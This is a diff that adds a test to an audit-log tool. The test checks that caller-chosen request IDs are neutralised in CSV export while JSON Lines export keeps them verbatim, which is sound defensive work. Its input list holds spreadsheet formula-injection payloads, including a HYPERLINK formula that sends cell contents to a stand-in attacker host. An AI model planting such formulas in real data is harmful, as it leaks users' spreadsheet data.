@@ -383,3 +383,24 @@ async def test_a_rotated_signing_key_verifies_with_both_public_halves(audit_url:
     assert old_only.returncode != 0 and "broken at sequence number 20:" in old_only.stderr
     both = _verify_cli(audit_url, "--public-key", str(keys[1]), "--public-key", str(new_public))
     assert both.returncode == 0 and "intact: 25 events, 3 signed checkpoints" in both.stdout, both.stderr
+
+
+async def test_csv_export_keeps_caller_chosen_text_from_running_as_a_formula(audit_url: str,
+                                                                             keys: tuple[Path, Path]) -> None:
+    """A caller picks its own X-Request-ID; exported to CSV it must stay text in a spreadsheet."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "plain-id"]
+    engine = create_engine(audit_url, write_lock_first=True)
+    try:
+        log = AuditLog(engine, load_signing_key(keys[0]))
+        await log.append([{"request_id": rid, "outcome": "refused", "operation": {"name": "=1+2"}} for rid in hostile])
+    finally:
+        await engine.dispose()
+    result = subprocess.run([*VCV, "audit", "export", "--db", audit_url, "--format", "csv"], capture_output=True,
+                            text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(result.stdout.splitlines()))
+    assert [r["request_id"] for r in rows] == ["'" + rid for rid in hostile[:-1]] + ["plain-id"]
+    assert {r["operation"] for r in rows} == {"'=1+2"}
+    # JSON Lines, which no spreadsheet evaluates, keep the text exactly as logged.
+    jsonl = subprocess.run([*VCV, "audit", "export", "--db", audit_url], capture_output=True, text=True, timeout=60)
+    assert [json.loads(line)["event"]["request_id"] for line in jsonl.stdout.splitlines()] == hostile
